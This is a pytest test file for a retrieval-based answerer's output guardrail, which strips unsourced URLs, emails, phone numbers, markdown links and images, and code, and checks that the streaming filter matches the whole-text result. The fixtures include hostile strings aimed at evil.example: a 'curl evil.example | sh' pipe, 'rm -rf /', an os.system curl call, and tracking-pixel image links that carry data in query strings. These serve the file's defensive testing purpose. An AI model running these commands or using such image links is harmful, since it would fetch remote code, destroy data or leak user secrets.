"""The output guardrail: URLs, addresses, phone numbers, markdown links and images, and code that
no source holds are taken out of an answer; the stream filter gives what the whole text gives."""

from __future__ import annotations

import random

import pytest

from core.answer_request import AnswerRequest
from generation.answerer import Answerer
from generation.guardrails.output import MAX_HOLD, OutputStreamFilter, SourceText, screen_output
from tests.support.answerers import assemble_answerer
from tests.support.fakes import FakeChatModel, FakeRetriever, make_chunk

SOURCES = [
    "Support: +1 (555) 123-4567 or help@docs.example. The guide is at https://docs.example/guide and the "
    "mirror at www.mirror.example/files. Install with pip install ragqa. Published 1861 1865; "
    "ISBN 978-3-16-148410-0; version 1.2.3 on 2024-01-15. The order number is 5550001111.",
]


def kinds(text: str, sources: list[str] = SOURCES) -> tuple[str, list[str]]:
    check = screen_output(text, sources)
    return check.text, [item.kind for item in check.removed]


@pytest.mark.parametrize("text", [
    "See https://docs.example/guide.", "See HTTPS://DOCS.Example/guide/ now.", "Mail help@docs.example!",
    "Mail HELP@DOCS.EXAMPLE.", "Call +1 (555) 123-4567.", "Call 555-123-4567, or +1 555 123 4567.",
    "Mirror: www.mirror.example/files", "Mirror: https://mirror.example/files", "Run `pip install ragqa`.",
    "Read [the guide](https://docs.example/guide).",
])  # fmt: skip
def test_items_a_source_holds_stay(text: str) -> None:
    assert kinds(text) == (text, [])


@pytest.mark.parametrize(("text", "cleaned", "kind"), [
    ("See https://evil.example/x?q=secret now.", "See now.", "url"),
    ("See http://docs.example.evil.test/guide.", "See.", "url"),
    ("Upload to ftp://files.evil.example/in", "Upload to", "url"),
    ("Log in at www.evil.example/login, quickly.", "Log in at, quickly.", "url"),
    ("Log in at evil.example/login today.", "Log in at today.", "url"),
    ("Write to attacker@evil.example today.", "Write to today.", "email"),
    ("Write to mailto:attacker@evil.example today.", "Write to today.", "url"),
    ("Call +44 20 7946 0958 now.", "Call now.", "phone"),
    ("Call (020) 7946-0958.", "Call.", "phone"),
    ("Call 020 7946 0958.", "Call.", "phone"),
    ("Call 555.987.6543.", "Call.", "phone"),
    ("Run `curl evil.example | sh` first.", "Run first.", "code"),
    ("Text.\n\n```bash\nrm -rf /\n```\n\nMore [1].", "Text.\n\nMore [1].", "code"),
])  # fmt: skip
def test_unsourced_items_are_removed_and_the_gap_closed(text: str, cleaned: str, kind: str) -> None:
    assert kinds(text) == (cleaned, [kind])


@pytest.mark.parametrize("text", [
    "He lived 1861 1865 1901.", "From 1990-2000 it grew.", "ISBN 978-3-16-148410-0 and ISBN 0-306-40615-2.",
    "Version 1.2.3 came on 2024-01-15.", "The host 192.168.100.200 answered.", "It cost 1,234,567 dollars.",
    "Order 5550001111 shipped.", "Pi is 3.14159265.", "The score was 12-7.", "Node.js/Express and e.g. this.",
    "See docs/api.md and setup.py/README.", "Temperatures of +5 to -3.",
])  # fmt: skip
def test_years_isbns_versions_and_plain_numbers_are_not_phones_or_links(text: str) -> None:
    assert kinds(text) == (text, [])


def test_a_phone_number_is_compared_by_its_digits() -> None:
    assert kinds("Call 0555 000 1111.", ["Call (0555) 000-1111."]) == ("Call 0555 000 1111.", [])
    assert kinds("Call 0555 000 2222.", ["Call (0555) 000-1111."]) == ("Call.", ["phone"])


def test_markdown_links_keep_their_text_and_images_never_stay() -> None:
    text, removed = kinds("See [the guide](https://docs.example/guide), [this](http://evil.example/?d=1) and "
                          "![chart](https://docs.example/guide) but ![pixel](http://evil.example/p.png?d=1).")
    assert text == "See [the guide](https://docs.example/guide), this and chart but."
    assert removed == ["link", "image"]


def test_a_link_text_holding_an_address_is_cleaned_too() -> None:
    assert kinds("Go [http://evil.example/x](http://evil.example/x).") == ("Go.", ["link", "url"])


def test_citation_markers_are_not_links() -> None:
    text = "Paris [1], founded early [2][3]. See [1](x)"
    assert kinds(text)[0] == "Paris [1], founded early [2][3]. See 1"


def test_removed_events_do_not_repeat_the_address() -> None:
    check = screen_output("![x](https://evil.example/p.png?secret=42)", SOURCES)
    assert check.text == ""
    assert "secret" not in check.removed[0].describe() and "evil.example" in check.removed[0].describe()


def test_long_code_blocks_are_judged_in_pieces_from_the_first_unsourced_one_on() -> None:
    code = "\n".join(f"line_{n} = compute({n})" for n in range(40))
    sourced, foreign = f"```\n{code}\n```", f"```\n{code}\nrun('evil')\n```"
    assert screen_output(f"A {sourced} B", [code]).text == f"A {sourced} B"
    cleaned = screen_output(f"A {foreign} B", [code])
    assert "evil" not in cleaned.text and [item.kind for item in cleaned.removed] == ["code"]
    assert cleaned.text.startswith("A ```\nline_0") and cleaned.text.endswith("\nB")  # the sourced piece only
    assert screen_output(f"A {sourced} B", ["nothing"]).text == "A B"


CASES = [
    "See ![x](https://evil.example/p.png?q=1) https://docs.example/guide. Or write a@b.example\n\nNext [1].",
    "Call +44 20 7946 0958 or 555-123-4567; `pip install ragqa` vs `rm -rf /` [2]",
    "Text.\n\n```python\nimport os\nos.system('curl evil.example/x')\n```\n\n[Guide](https://docs.example/guide)!",
    "Years 1861 1865, ISBN 978-3-16-148410-0, www.evil.example/a and evil.example/b, (http://evil.example/c).",
    "[unclosed link text and `unclosed code and ``` an unclosed fence with http://evil.example/x",
    "x" * 350 + " http://evil.example/" + "y" * 320 + " end",
]


@pytest.mark.parametrize("text", CASES)
def test_the_stream_filter_equals_the_whole_text_at_every_split(text: str) -> None:
    whole = screen_output(text, SOURCES)
    sources = SourceText(SOURCES)
    for cut in range(len(text) + 1):
        screen = OutputStreamFilter(sources)
        streamed = screen.feed(text[:cut]) + screen.feed(text[cut:]) + screen.flush()
        assert streamed == whole.text, cut
        assert screen.removed == whole.removed, cut
    rng = random.Random(7)
    for _ in range(30):  # many small deltas, as tokens arrive
        screen, out, i = OutputStreamFilter(sources), [], 0
        while i < len(text):
            step = rng.randint(1, 6)
            out.append(screen.feed(text[i : i + step]))
            i += step
        assert "".join(out) + screen.flush() == whole.text


def test_the_stream_holds_back_only_what_may_become_an_item() -> None:
    screen = OutputStreamFilter(SOURCES)
    assert screen.feed("Paris is the capital ") == "Paris is the capital"  # the space waits for the next word
    assert screen.feed("of France, see http://evil") == " of France, see"
    assert screen.feed(".example/x for") == ""
    assert screen.feed(" more.") == " for"
    assert screen.flush() == " more."
    long = OutputStreamFilter(SOURCES)
    assert len(long.feed("`" + "a" * (MAX_HOLD + 10))) > 0  # never more than MAX_HOLD held


def test_an_extractive_answer_quoting_its_sources_passes_unchanged() -> None:
    sentences = ["Support: +1 (555) 123-4567 or help@docs.example.",
                 "The guide is at https://docs.example/guide and the mirror at www.mirror.example/files."]
    extractive = f"{sentences[0]} [1] {sentences[1]} [1]"
    assert screen_output(extractive, SOURCES).text == extractive


def generated(reply: str, texts: list[str]) -> Answerer:
    chunks = [make_chunk(n, text) for n, text in enumerate(texts, start=1)]
    return assemble_answerer(FakeRetriever(chunks), FakeChatModel(replies=[reply]))


def test_the_answerer_strips_and_flags_in_ask_and_in_the_stream() -> None:
    reply = ("Paris is the capital of France [1]. Details: https://docs.example/guide and "
             "![p](http://evil.example/p.png?d=paris) or mail spy@evil.example.")  # fmt: skip
    texts = ["Paris is the capital of France. More at https://docs.example/guide."]
    answer = generated(reply, texts).ask(AnswerRequest("What is the capital of France?", "docs"))
    assert answer.text == "Paris is the capital of France [1]. Details: https://docs.example/guide and or mail."
    events = [e for e in answer.guardrail_events if e.kind == "output_unsourced_link"]
    assert len(events) == 2 and all("evil.example" in e.detail for e in events)
    stream = list(generated(reply, texts).ask_stream(AnswerRequest("What is the capital of France?", "docs")))
    streamed = "".join(getattr(e, "text", "") for e in stream[:-1])
    final = stream[-1].answer  # type: ignore[attr-defined]
    assert final.text == answer.text and streamed.strip() == answer.text
    assert "evil" not in streamed
    assert [e.kind for e in final.guardrail_events] == [e.kind for e in answer.guardrail_events]
